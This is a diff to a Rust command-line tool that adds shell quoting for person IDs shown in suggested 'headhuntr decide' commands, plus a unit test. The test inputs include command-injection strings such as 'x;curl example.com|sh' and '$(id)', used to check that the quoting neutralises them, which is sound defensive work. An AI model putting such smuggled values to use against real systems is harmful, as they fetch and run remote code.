@@ -56,12 +56,23 @@ fn people_in_lines(page: &PeoplePage) -> String {
             let _ = writeln!(text, "  {}", in_words(&problem));
             let ways = ways(&row.choices);
             if !ways.is_empty() {
-                let _ = writeln!(text, "  $ headhuntr decide {} {ways}", row.headhuntr_id);
+                let id = quoted(&row.headhuntr_id);
+                let _ = writeln!(text, "  $ headhuntr decide {id} {ways}");
             }
         }
     }
     let _ = writeln!(text, "{}", in_people(page.total));
     text
+}
+
+/// Returns an id as a shell takes it for one word and nothing else: it comes from whoever handed the person over.
+fn quoted(id: &str) -> String {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-');
+    if !id.starts_with('-') && id.chars().all(is_plain) {
+        id.to_owned()
+    } else {
+        format!("'{}'", id.replace('\'', r"'\''"))
+    }
 }
 
 /// Returns the arguments of `decide` that fit.
@@ -237,5 +248,18 @@ mod tests {
             "all that fits, in the order of likelihood"
         );
         assert_eq!(ways(&[Choice::Mapping]), "", "that is done elsewhere");
+    }
+
+    #[test]
+    fn an_id_from_outside_is_one_word_to_a_shell() {
+        for (id, expected) in [
+            ("hh-1.a_b", "hh-1.a_b"),
+            ("x;curl example.com|sh", "'x;curl example.com|sh'"),
+            ("it's", r"'it'\''s'"),
+            ("--all", "'--all'"),
+            ("$(id)", "'$(id)'"),
+        ] {
+            assert_eq!(quoted(id), expected, "{id}");
+        }
     }
 }
